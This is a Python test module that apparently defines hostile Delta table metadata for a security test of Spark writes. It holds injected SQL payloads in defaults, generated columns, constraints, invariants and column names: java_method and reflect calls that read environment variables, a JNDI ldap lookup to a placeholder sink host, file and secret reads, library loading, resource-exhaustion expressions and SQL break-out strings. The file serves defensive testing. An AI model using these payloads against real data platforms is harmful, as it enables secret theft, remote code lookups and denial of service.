"""Hostile SQL in a table's metadata, and names that would break out of SQL; an ordinary write by Spark runs into them."""

from tests.attacks.hostile_table import FIELDS, field

_READ_ENVIRONMENT = "java_method('java.lang.System', 'getenv', 'AIRFLOW_DELTA_CANARY')"
_CONNECT = "java_method('javax.naming.InitialContext', 'doLookup', 'ldap://{sink}/x')"


def _default(text):
    """A column with a default expression, which a write leaves out."""

    def attack(table):
        filled = field("filled", CURRENT_DEFAULT=text.format(outside=table.outside, sink=table.sink))
        table.create(fields=[*FIELDS, filled], reader=3, writer=7, features=["allowColumnDefaults"])
        _as_writer_feature(table)

    return attack


def _as_writer_feature(table):
    commit = table.log / f"{0:020d}.json"
    commit.write_text(commit.read_text().replace('"readerFeatures": ["allowColumnDefaults"]', '"readerFeatures": []'))


def _generated(text):
    def attack(table):
        expression = text.format(outside=table.outside, sink=table.sink)
        generated = field("made", **{"delta.generationExpression": expression})
        table.create(fields=[*FIELDS, generated], writer=4)

    return attack


def _check(text):
    def attack(table):
        text_here = text.format(outside=table.outside, sink=table.sink)
        table.create(writer=3, **{"delta.constraints.kept": text_here})

    return attack


def _invariant(text):
    def attack(table):
        here = text.format(outside=table.outside, sink=table.sink).replace("\\", "\\\\").replace('"', '\\"')
        guarded = field("s", **{"delta.invariants": '{"expression":{"expression":"%s"}}' % here})
        table.create(fields=[FIELDS[0], guarded])

    return attack


def _named(name):
    def attack(table):
        table.create(fields=[*FIELDS, field(name)], reader=2, writer=5, actions=(), **{"delta.columnMapping.mode": "name"})
        commit = table.log / f"{0:020d}.json"
        text = commit.read_text()
        for number in range(3):
            text = text.replace(
                '\\"metadata\\": {}',
                '\\"metadata\\": {\\"delta.columnMapping.id\\": %d, \\"delta.columnMapping.physicalName\\": \\"c%d\\"}'
                % (number + 1, number + 1),
                1,
            )
        commit.write_text(text)

    return attack


_QUERIES = {
    "environment by substitution": "'${{env:AIRFLOW_DELTA_CANARY}}'",
    "settings by substitution": "'${{spark:spark.app.id}}'",
    "system property by substitution": "'${{system:user.home}}'",
    "java_method": _READ_ENVIRONMENT,
    "reflect": "reflect('java.lang.System', 'getenv', 'AIRFLOW_DELTA_CANARY')",
    "try_reflect": "try_reflect('java.lang.System', 'getenv', 'AIRFLOW_DELTA_CANARY')",
    "java_method in a case": f"CASE WHEN true THEN {_READ_ENVIRONMENT} ELSE 'x' END",
    "JNDI": _CONNECT,
    "loads a library": "java_method('java.lang.System', 'load', '{outside}/secret.txt')",
    "reads a file": "(SELECT max(value) FROM text.`{outside}/secret.txt`)",
    "reads a table": "(SELECT max(s) FROM parquet.`{outside}/secret.parquet`)",
    "session variable": "(SELECT current_user())",
    "text of 2 GB": "repeat('x', 2147483632)",
    "2,000,000,000 numbers": "cast(size(sequence(1, 2000000000)) AS STRING)",
    "not SQL": "'; DROP TABLE x; --",
}

ATTACKS = {
    **{f"default: {title}": _default(text) for title, text in _QUERIES.items()},
    **{f"generated: {title}": _generated(text) for title, text in _QUERIES.items()},
    **{f"check: {title}": _check(f"s <> {text}") for title, text in _QUERIES.items()},
    **{f"invariant: {title}": _invariant(f"s <> {text}") for title, text in _QUERIES.items()},
    "check: 13 nestings": _check("(" * 13 + "CASE WHEN id > 0 THEN id > 0 ELSE (id > 1) END" + ")" * 13),
    "check: 22 nestings": _check("CAST((" * 22 + "id" + ") AS BIGINT)" * 22 + " > 0"),
    "check: 500 nestings": _check("(" * 500 + "id > 0" + ")" * 500),
    "check: 20,000 nestings": _check("(" * 20_000 + "id > 0" + ")" * 20_000),
    "check: 300,000 terms": _check(" OR ".join(["id > 0"] * 80_000)),
    "name: backtick": _named("a`) OR true; SELECT java_method('java.lang.System','exit','1'"),
    "name: quote": _named("a' OR '1'='1"),
    "name: line break": _named("a\n-- b"),
    "name: substitution": _named("${env:AIRFLOW_DELTA_CANARY}"),
}
